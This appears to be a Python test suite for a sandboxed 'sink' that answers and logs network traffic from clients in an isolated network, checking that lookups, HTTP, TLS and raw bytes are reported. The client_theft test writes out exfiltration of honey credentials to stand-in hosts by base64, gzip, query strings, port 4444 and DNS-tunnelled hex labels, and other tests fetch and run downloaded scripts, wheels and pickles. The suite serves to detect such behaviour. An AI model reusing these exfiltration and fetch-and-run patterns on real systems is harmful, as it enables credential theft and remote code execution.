#!/usr/bin/env python3
"""The sink, for real: clients in a network of their own, and what is told of them. The program
is build/asan/sink or build/debug/sink (SINK names another); needs root, and is skipped without."""

import base64
import binascii
import ftplib
import gzip
import http.client
import io
import json
import os
import pathlib
import pickle
import re
import shutil
import smtplib
import socket
import ssl
import struct
import subprocess
import sys
import tarfile
import tempfile
import urllib.request
import zipfile
import zlib

sys.path.insert(0, str(pathlib.Path(__file__).resolve().parent))
from _tap import ROOT, Skip, equal, main, test  # noqa: E402

TOKEN = "0123456789abcdef01234567"
PORTS = "t80,t443,t8080,t4444,t21,t25,t22,u123,u5000"


def program():
    for name in filter(None, [os.environ.get("SINK"), ROOT / "build/asan/sink",
                              ROOT / "build/debug/sink"]):
        if os.path.exists(name):
            return str(name)
    raise Skip("make VARIANT=asan sink")


class Event:
    def __init__(self, line):
        self.kind, flags, self.subject, self.detail, number = line.split("|")
        self.flags, self.number = int(flags), int(number)

    def __repr__(self):
        return f"{self.kind} {self.subject!r} {self.detail!r} {self.number}"


class Told(list):
    def of(self, kind, subject="", detail=""):
        return [e for e in self if e.kind == kind and subject in e.subject and detail in e.detail]

    def one(self, kind, subject="", detail=""):
        found = self.of(kind, subject, detail)
        assert len(found) == 1, f"{kind} {subject!r} {detail!r}: {found} of {list(self)}"
        return found[0]


def drive(client, *options):
    """Runs the function client(folder) in the sink's network; the events told."""
    if os.geteuid() != 0:
        raise Skip("needs root")
    with tempfile.TemporaryDirectory(prefix="pratique-sink-") as folder:
        done = subprocess.run(
            [program(), *options, folder, PORTS, sys.executable, __file__, "--client",
             client.__name__, folder], capture_output=True, text=True, timeout=60)
    if done.returncode == 77:
        raise Skip(done.stderr.strip())
    assert done.returncode == 0, f"{done.returncode}: {done.stderr[-3000:]}\n{done.stdout[-2000:]}"
    return Told(map(Event, done.stdout.splitlines()))


# ---- what clients use ----

def context(folder):
    return ssl.create_default_context(cafile=f"{folder}/ca.pem")


def secrets(folder):
    found = {}
    for line in pathlib.Path(folder, "env").read_text().splitlines():
        if line.startswith("SECRET "):
            what, value = line[7:].split("=", 1)
            found.setdefault(what, value)
    return found


def fetch(url, folder, data=None, method=None, **headers):
    request = urllib.request.Request(url, data=data, method=method, headers={
        k.replace("_", "-"): v for k, v in headers.items()})
    with urllib.request.urlopen(request, timeout=10, context=context(folder)) as answer:
        return answer.read()


def raw(host, port, data, read=True):
    with socket.create_connection((host, port), timeout=10) as s:
        s.sendall(data)
        s.shutdown(socket.SHUT_WR)
        return b"".join(iter(lambda: s.recv(65536), b"")) if read else b""


def dns_query(name, kind, server="127.0.0.1", tcp=False):
    question = b"".join(bytes([len(x)]) + x.encode() for x in name.split(".") if x) + b"\0"
    message = struct.pack(">HHHHHH", 77, 0x100, 1, 0, 0, 0) + question + struct.pack(">HH", kind, 1)
    if tcp:
        answer = raw(server, 53, struct.pack(">H", len(message)) + message)[2:]
    else:
        family = socket.AF_INET6 if ":" in server else socket.AF_INET
        with socket.socket(family, socket.SOCK_DGRAM) as s:
            s.settimeout(5)
            s.sendto(message, (server, 53))
            answer, who = s.recvfrom(2048)
            assert who[0] == server, who
    return answer[3] & 15, struct.unpack(">H", answer[6:8])[0], answer[len(message):]


# ---- names ----

def client_names(folder):
    address = socket.gethostbyname("evil.example.org")
    assert address == socket.gethostbyname("EVIL.example.org"), address
    assert not address.startswith(("10.", "127.", "192.168.")), address
    assert address != socket.gethostbyname("other.example.org")
    equal(socket.gethostbyaddr(address)[0], "evil.example.org")
    equal(dns_query("evil.example.org", 28)[:2], (0, 0), "AAAA")
    equal(dns_query("evil.example.org", 15)[:2], (0, 1), "MX")
    equal(dns_query("evil.example.org", 16)[:2], (0, 1), "TXT")
    equal(dns_query("printer.local", 1)[:2], (3, 0), "local")
    equal(dns_query("wpad", 1)[:2], (3, 0), "wpad")
    rcode, n, record = dns_query("evil.example.org", 1, "8.8.8.8")
    equal((rcode, n, socket.inet_ntoa(record[-4:])), (0, 1, address), "of 8.8.8.8")
    equal(dns_query("six.example.org", 1, "2001:4860:4860::8888")[:2], (0, 1), "by IPv6")
    equal(dns_query("tcp.example.org", 1, "1.1.1.1", tcp=True)[:2], (0, 1), "by TCP")
    for name in ("localhost", "thinkpad"):
        assert dns_query(name, 1)[2][-4:-2] == b"\x7f\0", name


@test
def names_are_looked_up():
    told = drive(client_names)
    assert told.of("lookup", "evil.example.org", "A"), told
    assert told.one("lookup", "evil.example.org", "MX").number == 34
    equal(told.one("lookup", "", "8.8.8.8").detail, "A, of 8.8.8.8")
    equal(told.one("lookup", "six.example.org").detail, "A, of 2001:4860:4860::8888")
    equal(told.one("lookup", "tcp.example.org").detail, "A, of 1.1.1.1")
    assert told.of("lookup", "wpad") and told.of("lookup", "printer.local")
    assert told.of("lookup", "in-addr.arpa", "PTR")
    assert not told.of("lookup", "localhost") and not told.of("lookup", "thinkpad"), told
    assert not told.of("setup"), told


# ---- HTTP ----

def client_requests(folder):
    text = fetch("https://cdn.evil.example/transformers.pyz", folder)
    assert zipfile.ZipFile(io.BytesIO(text)).read("__main__.py").count(TOKEN.encode()) == 1
    equal(json.loads(fetch("http://api.example.org/v1/x?y=1", folder))["status"], "ok")
    body = json.dumps({"host": "h"}).encode()
    fetch("https://collect.example.org/up", folder, body, Content_Type="application/json",
          User_Agent="thing/1.0")
    equal(fetch("http://203.0.113.9:8080/get", folder)[:9], b"#!/bin/sh")
    equal(fetch("https://[2001:db8::7]/a.py", folder)[:4], b"try:")
    try:
        fetch("https://x.example/a.sha256", folder)
        raise AssertionError("a digest was had")
    except urllib.error.HTTPError as e:
        equal(e.code, 404)
    connection = http.client.HTTPSConnection("keep.example", context=context(folder), timeout=10)
    for _ in range(3):
        connection.request("GET", "/lib.so")
        answer = connection.getresponse()
        equal((answer.status, answer.read()[:4]), (200, b"\x7fELF"))
    connection.request("HEAD", "/lib.so")
    answer = connection.getresponse()
    equal((answer.status, answer.headers["Content-Length"], answer.read()), (200, "32", b""))
    connection.request("GET", "/lib.so", headers={"Range": "bytes=1-3"})
    answer = connection.getresponse()
    equal((answer.status, answer.headers["Content-Range"], answer.read()),
          (206, "bytes 1-3/32", b"ELF"))
    connection.request("PUT", "/up", iter([b"one", b"two"]), {"Transfer-Encoding": "chunked"},
                       encode_chunked=True)
    equal(connection.getresponse().read()[:1], b"{")


@test
def requests_are_told_and_answered():
    told = drive(client_requests)
    e = told.one("request", "https://cdn.evil.example/transformers.pyz")
    equal(e.detail, f"GET, User-Agent: Python-urllib/{sys.version_info[0]}.{sys.version_info[1]}")
    assert e.flags & 1 << 22, e
    equal(told.one("answer", "transformers.pyz").detail, "zip")
    e = told.one("request", "http://api.example.org/v1/x?y=1")
    assert not e.flags & 1 << 22, e
    equal(told.one("request", "https://collect.example.org/up").detail,
          'POST application/json, User-Agent: thing/1.0, body: {"host": "h"}')
    told.one("request", "http://203.0.113.9:8080/get")
    told.one("request", "https://[2001:db8::7]/a.py")
    equal(told.one("answer", "a.sha256").detail, "not found")
    equal(len(told.of("request", "https://keep.example/lib.so")), 5)
    equal(len(told.of("accepted", detail="keep.example")), 1)
    told.one("request", "https://keep.example/up", "body: onetwo")
    assert told.of("accepted", "tcp 203.0.113.9:8080")
    assert told.of("accepted", "tcp [2001:db8::7]:443")


def client_raw_http(folder):
    pipelined = raw("p.example", 80, b"GET /1.py HTTP/1.1\r\nHost: p.example\r\n\r\n"
                    b"POST /2 HTTP/1.1\r\nHost: p.example\r\nContent-Length: 3\r\n\r\nabc"
                    b"GET /3.sh HTTP/1.0\r\n\r\n")
    equal(pipelined.count(b"HTTP/1.1 200 OK"), 3)
    with socket.create_connection(("e.example", 80), timeout=10) as s:
        s.sendall(b"POST /up HTTP/1.1\r\nHost: e.example\r\nExpect: 100-continue\r\n"
                  b"Content-Length: 4\r\n\r\n")
        assert b"100 Continue" in s.recv(4096)
        s.sendall(b"body")
        assert b"200 OK" in s.recv(4096)
    with socket.create_connection(("proxy.example", 8080), timeout=10) as s:
        s.sendall(b"CONNECT inner.example:443 HTTP/1.1\r\nHost: inner.example:443\r\n\r\n")
        assert b"200" in s.recv(4096)
        with context(folder).wrap_socket(s, server_hostname="inner.example") as inner:
            inner.sendall(b"GET /stage.py HTTP/1.1\r\nHost: inner.example\r\n\r\n")
            assert b"CANARY" in inner.recv(8192)
    raw("half.example", 80, b"POST /never HTTP/1.1\r\nHost: half.example\r\n"
        b"Content-Length: 100\r\n\r\npart")
    raw("begun.example", 80, b"GET /begun")


@test
def http_is_read_however_it_comes():
    told = drive(client_raw_http)
    told.one("request", "http://p.example/1.py")
    told.one("request", "http://p.example/2", "body: abc")
    told.one("request", "http://p.example/3.sh")
    told.one("request", "http://e.example/up", "body: body")
    equal(told.one("request", "inner.example:443", "CONNECT").subject, "inner.example:443")
    told.one("request", "https://inner.example/stage.py")
    e = told.one("request", "http://half.example/never")
    equal(e.detail, "POST, body: part")
    assert not told.of("answer", "never")
    equal(told.one("sent").detail, "GET /begun")


# ---- trust ----

def client_distrust(folder):
    for name in ("distrust.example",):
        try:
            urllib.request.urlopen(f"https://{name}/", timeout=10)
            raise AssertionError("trusted")
        except urllib.error.URLError as e:
            assert "CERTIFICATE_VERIFY_FAILED" in str(e), e
    blind = ssl._create_unverified_context()
    blind.check_hostname = False
    assert urllib.request.urlopen("https://blind.example/x", context=blind, timeout=10).read()
    raw("broken.example", 443, b"\x16\x03\x01\x00\x05\x01\x00\x00\x01\x00")
    with context(folder).wrap_socket(socket.create_connection(("idle.example", 443)),
                                     server_hostname="idle.example"):
        pass


@test
def distrust_is_told():
    told = drive(client_distrust)
    e = told.one("request", "https://distrust.example/")
    equal((e.subject, e.detail, e.flags), ("https://distrust.example/",
                                           "TLS, the certificate was not accepted", 1 << 22))
    told.one("request", "https://blind.example/x", "GET")
    told.one("request", "", "TLS, the handshake failed")
    told.one("request", "https://idle.example/", "TLS, and nothing was asked for")


# ---- other bytes ----

def client_other(folder):
    equal(raw("198.51.100.4", 4444, b"\x01\x02hello\n"), b"")
    for port, word in ((21, b"220"), (22, b"SSH-2.0"), (25, b"220")):
        with socket.create_connection(("speaks.example", port), timeout=10) as s:
            assert s.recv(100).startswith(word), port
            s.sendall(b"QUIT\r\n")
    with smtplib.SMTP("mail.example", 25, timeout=10) as mail:
        mail.login("user", "password")
        mail.sendmail("a@b.example", ["c@d.example"], "Subject: x\n\nstolen goods")
    ftplib.FTP("files.example", "user", "password", timeout=10).quit()
    with context(folder).wrap_socket(socket.create_connection(("in.example", 443)),
                                     server_hostname="in.example") as s:
        s.sendall(b"\x00\x01\x02inside")
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        for part in (b"stats", b"more"):
            s.sendto(part, ("192.0.2.5", 5000))
        s.settimeout(5)
        s.sendto(b"\x23" + bytes(47), ("192.0.2.6", 123))
        answer, who = s.recvfrom(100)
        equal((len(answer), answer[0] & 7, who[0]), (48, 4, "192.0.2.6"))


@test
def other_bytes_are_counted():
    told = drive(client_other)
    e = told.one("sent", "tcp 198.51.100.4:4444")
    equal((e.detail, e.number), ("..hello.", 8))
    equal(len([e for e in told.of("sent") if e.detail == "QUIT.." and e.number == 6]), 3)
    assert told.of("sent", "", "ehlo")[0].number > 130, told.of("sent")
    told.one("sent", "", "USER user")
    e = told.one("sent", "", "...inside")
    equal((e.number, e.flags), (9, 1 << 22))
    e = told.one("sent", "udp 192.0.2.5:5000")
    equal((e.detail, e.number), ("statsmore", 9))
    equal(told.one("sent", "udp 192.0.2.6:123").number, 48)


# ---- theft ----

def client_theft(folder):
    have = secrets(folder)
    aws = have["$AWS_SECRET_ACCESS_KEY"].encode()
    fetch("https://steal.example/plain", folder, b"k=" + aws)
    fetch("https://steal.example/b64", folder, b'{"d":"' + base64.b64encode(b"x" + aws) + b'"}')
    fetch("https://steal.example/gz", folder, gzip.compress(b"env " + aws))
    fetch("https://steal.example/coded", folder, base64.b64encode(zlib.compress(b"env " + aws)))
    fetch("http://steal.example/?q=" + have["$GITHUB_TOKEN"], folder)
    raw("198.51.100.4", 4444, have["$HF_TOKEN"].encode()[::-1])
    text = binascii.hexlify(have["$OPENAI_API_KEY"].encode()).decode()
    for i in range(0, len(text), 30):
        dns_query(f"{text[i:i + 30]}.{i}.exfil.example", 1)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.sendto(have["$NPM_TOKEN"].encode(), ("192.0.2.5", 5000))
    fetch("https://innocent.example/", folder, b"nothing at all")


@test
def theft_is_proved():
    told = drive(client_theft)
    aws = told.of("honey-sent", "$AWS_SECRET_ACCESS_KEY")
    equal([e.detail for e in aws], [
        "plain in the body of POST https://steal.example/plain",
        "base64 in the body of POST https://steal.example/b64",
        "plain, compressed in the body of POST https://steal.example/gz",
        "plain, compressed in the body of POST https://steal.example/coded"])
    told.one("honey-sent", "$GITHUB_TOKEN", "plain in the head of GET http://steal.example/?q=")
    told.one("honey-sent", "$HF_TOKEN", "reversed in tcp 198.51.100.4:4444")
    assert told.one("honey-sent", "$OPENAI_API_KEY", "hex in the lookup of ").detail.endswith(
        ".exfil.example")
    told.one("honey-sent", "$NPM_TOKEN", "plain in udp 192.0.2.5:5000")
    equal(len(told.of("honey-sent")), 8)


# ---- the plain wall ----

def client_wall(folder):
    for name in ("nowhere.example",):
        try:
            socket.gethostbyname(name)
            raise AssertionError("resolved")
        except socket.gaierror:
            pass
    equal(raw("203.0.113.1", 80, b"GET /x HTTP/1.1\r\nHost: a.example\r\n\r\n"), b"")
    equal(raw("203.0.113.1", 443, b"\x16\x03\x01\x00\x05\x01\x00\x00\x01\x00"), b"")


@test
def without_answers_there_is_a_wall():
    told = drive(client_wall, "--no-answers")
    told.of("lookup", "nowhere.example")
    told.one("request", "http://a.example/x")
    assert not told.of("answer"), told
    told.one("sent", "tcp 203.0.113.1:443")


# ---- canaries, run ----

def client_canaries(folder):
    for name in ("s.sh", "p.py", "a.zip", "foo-1.2-py3-none-any.whl", "bar-0.3.tar.gz", "m.pkl"):
        data = fetch(f"https://c.example/{name}", folder)
        pathlib.Path(folder, "keep", name).write_bytes(data)
    page = fetch("https://index.example/simple/some-tool/", folder, Accept="text/html").decode()
    assert 'href="https://index.example/packages/some_tool-1.4.2-py3-none-any.whl"' in page, page
    assert re.fullmatch(rb"[\d.]+\n", fetch("https://api.ipify.org", folder))
    assert "ip" in json.loads(fetch("https://api.ipify.org/?format=json", folder))
    if shutil.which("curl"):
        out = subprocess.run(["curl", "-fsS", "--cacert", f"{folder}/ca.pem",
                              "https://get.example/install"], capture_output=True, timeout=20)
        assert out.stdout.startswith(b"#!/bin/sh"), out
    code = fetch("https://c.example/s.sh", folder)
    run_canaries(folder, code)


def opens(command, stdin=None, cwd=None):
    """Runs it; it must be silent, end well, and leave nothing."""
    done = subprocess.run(command, input=stdin, capture_output=True, cwd=cwd, timeout=20)
    equal((done.returncode, done.stdout, done.stderr), (0, b"", b""), " ".join(map(str, command)))
    made = pathlib.Path("/").glob("CANARY-*")
    names = sorted(p.name for p in made)
    for p in names:
        os.unlink(f"/{p}")
    return names


def run_canaries(folder, code):
    """As root "/" can be written: the canary leaves its file, which proves that it ran."""
    here = pathlib.Path(folder, "keep")
    script = [f"CANARY-{TOKEN}-script"]
    for shell in ("sh", "bash", sys.executable):
        equal(opens([shell], code), script, f"{shell} piped")
        equal(opens([shell, "s.sh"], cwd=here), script, f"{shell} s.sh")
    equal(opens(["sh", "-c", 'eval "$(cat s.sh)"; exit 0'], cwd=here), script, "eval")
    equal(opens([sys.executable, "-c", "exec(open('s.sh').read())"], cwd=here), script, "exec")
    python = [f"CANARY-{TOKEN}-python"]
    equal(opens([sys.executable, "p.py"], cwd=here), python)
    equal(opens([sys.executable, "-B", "-c", "from p import main, x; main(1).y(); x.z"], cwd=here),
          python)
    equal(opens([sys.executable, "a.zip"], cwd=here), [f"CANARY-{TOKEN}-zip"])
    equal(opens([sys.executable, "-c", "import sys; sys.path.insert(0, 'a.zip'); import a"],
                cwd=here), [f"CANARY-{TOKEN}-zip"])
    equal(opens([sys.executable, "-c", "import sys; sys.path.insert(0, "
                 "'foo-1.2-py3-none-any.whl'); import foo; foo.run()"], cwd=here),
          [f"CANARY-{TOKEN}-wheel"])
    names = tarfile.open(here / "bar-0.3.tar.gz").getnames()
    assert "bar-0.3/setup.py" in names and {n.split("/")[0] for n in names} == {"bar-0.3"}, names
    equal(opens([sys.executable, "-c", "import pickle; print(end=''); "
                 "assert pickle.load(open('m.pkl', 'rb')) == {}"], cwd=here),
          [f"CANARY-{TOKEN}-pickle"])


@test
def canaries_run_and_do_no_harm():
    told = drive(client_canaries)
    for name, kind in (("s.sh", "script"), ("p.py", "python"), ("a.zip", "zip"),
                       (".whl", "wheel"), ("tar.gz", "archive"), ("m.pkl", "pickle")):
        assert told.of("answer", name, kind), name


def client_flood(folder):
    """More connections than are taken, and more bytes than are read from one."""
    many = [socket.create_connection(("198.51.100.9", 4444), timeout=10) for _ in range(80)]
    for s in many:
        s.close()
    for _ in range(20):  # by then it has seen that they are gone
        dns_query("sync.example", 1)
    with socket.create_connection(("198.51.100.8", 4444), timeout=10) as s:
        try:
            for _ in range(600):
                s.sendall(bytes(1 << 16))
            raise AssertionError("40 MB were taken")
        except OSError:
            pass
    for junk in (b"\0", b"\x16", b"\x16\x03", b"G", b"GET", b"GET /", b"\xff" * 3000,
                 b"POST / HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\n",
                 b"POST / HTTP/1.1\r\nContent-Length: 99999999999999999999\r\n\r\n",
                 b"GET / HTTP/1.1\r\n" + b"a: b\r\n" * 20000):
        try:
            raw("junk.example", 80, junk)
        except OSError:
            pass
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        for junk in (b"", b"\0" * 12, b"\xff" * 600, b"\0\1\0\0\0\1" + bytes(6) + b"\xc0\x0c\0\1\0\1"):
            s.sendto(junk, ("9.9.9.9", 53))
    equal(dns_query("still.example", 1)[:2], (0, 1), "alive")


@test
def floods_and_junk_are_survived():
    told = drive(client_flood)
    equal(len(told.of("accepted", "198.51.100.9")), 80)
    assert 4 << 20 < told.one("sent", "198.51.100.8").number < 5 << 20
    assert told.of("lookup", "still.example")
    assert not told.of("broken") and not told.of("setup")


if __name__ == "__main__":
    if "--client" in sys.argv:
        pathlib.Path(sys.argv[3], "keep").mkdir()
        globals()[sys.argv[2]](sys.argv[3])
    else:
        main()
